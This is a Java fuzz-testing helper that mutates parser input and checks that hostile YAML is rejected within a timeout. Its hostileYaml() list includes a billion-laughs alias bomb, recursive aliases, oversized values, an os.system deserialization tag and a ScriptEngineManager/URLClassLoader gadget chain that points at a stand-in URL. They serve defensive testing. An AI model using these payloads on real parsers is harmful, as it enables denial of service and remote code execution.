package dev.foldhub.testsupport;

import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.fail;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.function.Executable;

/**
 * Deterministic input mutation for parser fuzz tests: bit flips, truncation, inserted, deleted, repeated and
 * random bytes, and tokens that parsers trip on (deep nesting, aliases, huge numbers, odd unicode). Every
 * case runs under a 2 s preemptive timeout and may throw only the exceptions the parser promises; a hostile
 * case ({@link #rejects}) must throw one of them.
 */
public final class Fuzz {

    /** The longest one parse may take. */
    public static final Duration PER_CASE = Duration.ofSeconds(2);

    private static final String[] TOKENS = {
            "{", "}", "[", "]", ":", ": ", ",", "-", "- ", "\n", "\n  ", "\t", "\"", "'", "#", "&a ", "*a", "!!",
            "!!binary ", "!!python/object:os.system ", "!!set ", "!!timestamp ", "? ", "|", ">", "%YAML 1.1\n", "---\n",
            "...\n", "~", "null", "true", "-0", "1e999999", "-1e-999999", "99999999999999999999999999999999", ".nan",
            ".inf", "-.inf", "0x7fffffff", "0o777", "1_000", "NaN", "\u0000", "\uFFFF", "\uFEFF", "\uD800", "\u202E",
            "é", "😀", "\r", "\r\n", "<<: *a\n", "\\u0000", "\\uD800", "(", ")", "'shape': (", "2147483648", "-1",
            "9223372036854775808", "L,", "'descr': '", "'<f8'", "'|u1'", "True", "False"};

    private final Random random;

    public Fuzz(long seed) {
        this.random = new Random(seed);
    }

    public Random random() {
        return random;
    }

    /** The seed text changed by 1 to 4 random mutations. */
    public String mutate(String seed) {
        byte[] bytes = seed.getBytes(StandardCharsets.UTF_8);
        int rounds = 1 + random.nextInt(4);
        String text = seed;
        for (int i = 0; i < rounds; i++) {
            text = random.nextInt(3) == 0 ? insertToken(text)
                    : new String(mutate(text.getBytes(StandardCharsets.UTF_8), 1), StandardCharsets.UTF_8);
        }
        return bytes.length == 0 && text.isEmpty() ? randomText(1 + random.nextInt(64)) : text;
    }

    /** The seed bytes changed by 1 to 4 random mutations. */
    public byte[] mutate(byte[] seed) {
        return mutate(seed, 1 + random.nextInt(4));
    }

    private byte[] mutate(byte[] seed, int rounds) {
        byte[] b = seed;
        for (int i = 0; i < rounds; i++) {
            int n = b.length;
            int at = n == 0 ? 0 : random.nextInt(n);
            b = switch (random.nextInt(7)) {
                case 0 -> flipBits(b);
                case 1 -> Arrays.copyOf(b, n == 0 ? 0 : random.nextInt(n)); // truncate
                case 2 -> splice(b, at, at, randomBytes(1 + random.nextInt(16)));
                case 3 -> splice(b, at, Math.min(n, at + 1 + random.nextInt(32)), new byte[0]); // delete
                case 4 -> { // repeat a chunk many times
                    byte[] chunk = Arrays.copyOfRange(b, at, Math.min(n, at + 1 + random.nextInt(16)));
                    yield splice(b, at, at, repeat(chunk, 1 + random.nextInt(200)));
                }
                case 5 -> { // overwrite with one interesting byte
                    byte[] c = b.clone();
                    if (n > 0) {
                        c[at] = (byte) new int[] {0, 0xff, 0x7f, 0x80, '\n', '"', '\'', '{', '(', ',', ':'}[random.nextInt(11)];
                    }
                    yield c;
                }
                default -> splice(b, at, at, TOKENS[random.nextInt(TOKENS.length)].getBytes(StandardCharsets.UTF_8));
            };
        }
        return b;
    }

    /** Random bytes of the given length. */
    public byte[] randomBytes(int length) {
        byte[] b = new byte[length];
        random.nextBytes(b);
        return b;
    }

    /** Random printable-ish text, tokens included. */
    public String randomText(int tokens) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < tokens; i++) {
            s.append(random.nextBoolean() ? TOKENS[random.nextInt(TOKENS.length)] : (char) (32 + random.nextInt(95)));
        }
        return s.toString();
    }

    /** YAML that attacks a parser's resources rather than its grammar. */
    public static List<String> hostileYaml() {
        List<String> cases = new ArrayList<>();
        cases.add("[".repeat(5000) + "]".repeat(5000));
        cases.add("{a: ".repeat(3000) + "1" + "}".repeat(3000));
        cases.add("a:\n" + "  ".repeat(1).concat("- ").repeat(2000) + "1");
        StringBuilder lol = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i < 12; i++) {
            String prev = "*a" + (i - 1);
            lol.append("a").append(i).append(": &a").append(i).append(" [").append(String.join(", ", java.util.Collections.nCopies(9, prev))).append("]\n");
        }
        cases.add(lol.toString()); // billion laughs
        cases.add("model: &m {arch: *m}");
        cases.add("&a [*a]");
        cases.add("&a {b: *a}");
        cases.add("model:\n  input_size: " + "9".repeat(5000));
        cases.add("model:\n  input_size: 1e99999999");
        cases.add("model:\n  dropout: " + "0.".concat("1".repeat(10000)));
        cases.add("model:\n  arch: \"" + "x".repeat(200_000) + "\"");
        cases.add("model:\n  arch: \"" + "x".repeat(60_000) + "\""); // just under the server's 64 KB
        cases.add("model:\n  arch: " + "x ".repeat(30_000));
        cases.add("model:\n  arch: !!binary " + "QUJD".repeat(10000));
        cases.add("!!python/object/apply:os.system [\"echo hi\"]");
        cases.add("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]");
        cases.add("model: {arch: resnet18, arch: resnet34}");
        cases.add("? [a, b]\n: 1");
        cases.add("? {a: 1}\n: 1");
        cases.add("model:\n  <<: [*x]");
        cases.add("- " .repeat(3000) + "x");
        cases.add("a: |\n" + "  line\n".repeat(50_000));
        cases.add("\uFEFF\uFEFFmodel: {}");
        cases.add("model: \"\\uD800\"");
        cases.add("model:\n  arch: \u0000");
        cases.add("%YAML 9.9\n---\nmodel: {}");
        cases.add("--- !!set\n? a\n? b");
        cases.add("train:\n  lr_decay_milestones: &m [1, *m]");
        cases.add("scheduler:\n  name: multi_step\n  params: &p {milestones: *p}");
        return cases;
    }

    /**
     * Runs one case that may be valid (a mutation): it must finish within {@link #PER_CASE} and either return or
     * throw one of {@code allowed} (a StackOverflowError, OutOfMemoryError or any other type fails the test,
     * showing the input). For input that must be refused use {@link #rejects}.
     */
    @SafeVarargs
    public static void check(String label, Object input, Executable parse, Class<? extends Throwable>... allowed) {
        Throwable thrown = run(label, input, parse);
        if (thrown != null) {
            assertAllowed(label, input, thrown, allowed);
        }
    }

    /**
     * Runs one hostile case that must be refused: within {@link #PER_CASE} it must throw one of {@code allowed};
     * returning normally (the input was accepted) fails the test, as does any other throwable.
     */
    @SafeVarargs
    public static void rejects(String label, Object input, Executable parse, Class<? extends Throwable>... allowed) {
        Throwable thrown = run(label, input, parse);
        if (thrown == null) {
            fail(label + ": accepted, but must be rejected: " + show(input));
        }
        assertAllowed(label, input, thrown, allowed);
    }

    @SafeVarargs
    private static void assertAllowed(String label, Object input, Throwable thrown, Class<? extends Throwable>... allowed) {
        if (Arrays.stream(allowed).noneMatch(c -> c.isInstance(thrown))) {
            fail(label + ": " + thrown + " on " + show(input), thrown);
        }
    }

    private static Throwable run(String label, Object input, Executable parse) {
        return assertTimeoutPreemptively(PER_CASE, () -> {
            try {
                parse.execute();
                return null;
            } catch (Throwable t) {
                return t;
            }
        }, () -> label + ": took over " + PER_CASE.toSeconds() + " s on " + show(input));
    }

    /** The input, escaped and shortened, for a failure message. */
    public static String show(Object input) {
        String text = input instanceof byte[] b ? java.util.HexFormat.of().formatHex(b, 0, Math.min(b.length, 300))
                : String.valueOf(input);
        String escaped = text.length() > 600 ? text.substring(0, 600) + "...(" + text.length() + " chars)" : text;
        return "<<" + escaped.replace("\n", "\\n").replace("\r", "\\r") + ">>";
    }

    private byte[] flipBits(byte[] b) {
        byte[] c = b.clone();
        for (int i = 0, n = 1 + random.nextInt(8); i < n && c.length > 0; i++) {
            int at = random.nextInt(c.length);
            c[at] ^= (byte) (1 << random.nextInt(8));
        }
        return c;
    }

    private String insertToken(String text) {
        int at = text.isEmpty() ? 0 : random.nextInt(text.length() + 1);
        return text.substring(0, at) + TOKENS[random.nextInt(TOKENS.length)] + text.substring(at);
    }

    private static byte[] splice(byte[] b, int from, int to, byte[] insert) {
        byte[] out = new byte[b.length - (to - from) + insert.length];
        System.arraycopy(b, 0, out, 0, from);
        System.arraycopy(insert, 0, out, from, insert.length);
        System.arraycopy(b, to, out, from + insert.length, b.length - to);
        return out;
    }

    private static byte[] repeat(byte[] chunk, int times) {
        byte[] out = new byte[chunk.length * times];
        for (int i = 0; i < times; i++) {
            System.arraycopy(chunk, 0, out, i * chunk.length, chunk.length);
        }
        return out;
    }
}
